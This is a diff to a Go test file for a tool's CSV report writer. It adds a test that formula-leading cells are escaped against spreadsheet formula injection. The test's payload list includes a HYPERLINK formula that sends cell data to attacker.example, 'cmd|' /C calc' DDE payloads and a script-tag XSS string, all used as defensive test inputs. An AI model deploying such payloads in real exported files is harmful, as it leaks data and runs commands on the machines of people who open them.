@@ -5,6 +5,7 @@ import (
 	"encoding/csv"
 	"slices"
 	"strconv"
+	"strings"
 	"testing"
 
 	"github.com/resolve-tool/resolve/resolve/report"
@@ -81,8 +82,8 @@ func TestCSVOneLinePerInputRowInOrder(t *testing.T) {
 		{"7", "reject_reason", "name: empty name"},
 		{"7", "cluster_id", ""},
 		{"12", "status", "ignored"},
-		// Carried values are written untouched.
-		{"15", "hs_code", "=1+2"},
+		// Carried values are written untouched, but for a formula's leading "'".
+		{"15", "hs_code", "'=1+2"},
 		{"15", "consignee", "line one\nline two"},
 		{"15", "name", `Quux & Sons </script><script>alert("x")</script> <b>Ltd</b>`},
 	}
@@ -100,6 +101,54 @@ func TestCSVOneLinePerInputRowInOrder(t *testing.T) {
 	wantTail := []string{"hs_code", "consignee", "input:status"}
 	if got := header[len(CSVColumns):]; !slices.Equal(got, wantTail) {
 		t.Errorf("carried columns = %v, want %v", got, wantTail)
+	}
+}
+
+// TestCSVFormulaInjection: no cell of the CSV, whatever column it is in,
+// begins with a character that makes a spreadsheet evaluate it (OWASP's list:
+// = + - @ tab CR); such a value gets a leading "'" and is otherwise intact.
+func TestCSVFormulaInjection(t *testing.T) {
+	payloads := []string{
+		`=HYPERLINK("https://attacker.example/?"&A1,"click")`,
+		`+1+cmd|' /C calc'!A0`,
+		`-2+3`,
+		`@SUM(1+1)*cmd|' /C calc'!A0`,
+		"\t=1+1",
+		"\r=1+1",
+	}
+	for _, p := range payloads {
+		r := &report.Report{
+			Run: report.Run{Input: report.Input{Columns: []string{"id", "name", p}}},
+			Clusters: []report.Cluster{{ID: "C1", CanonicalName: p, Size: 1, Flags: []report.Flag{{Code: "x"}},
+				Members: []report.Member{{Row: 2, ID: p, Name: p, Extra: map[string]string{p: p, "note": p}}}}},
+			RejectedRows: []report.RejectedRow{{Row: 3, Column: p, Reason: "empty name", Raw: p}},
+			IgnoredRows:  []report.IgnoredRow{{Row: 4, Name: p, Reason: p}},
+		}
+		recs := readCSV(t, r)
+		for i, rec := range recs {
+			for j, cell := range rec {
+				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+					t.Errorf("%q: line %d, column %d begins with %q: %q", p, i, j, cell[0], cell)
+				}
+			}
+		}
+		header, row := recs[0], recs[1]
+		for _, col := range []string{"id", "name", "canonical_name", "'" + p, "note"} {
+			i := slices.Index(header, col)
+			if i < 0 {
+				t.Fatalf("%q: no column %q in %q", p, col, header)
+			}
+			if row[i] != "'"+p {
+				t.Errorf("%q: %s = %q, want %q", p, col, row[i], "'"+p)
+			}
+		}
+	}
+	// Values that merely contain those characters, numbers and quotes are
+	// written as they are.
+	for _, v := range []string{"A=B Ltd", "Alpha-Beta", "3M", "'quoted'", "8542.31", " =1"} {
+		if got := CSVCell(v); got != v {
+			t.Errorf("CSVCell(%q) = %q", v, got)
+		}
 	}
 }
 
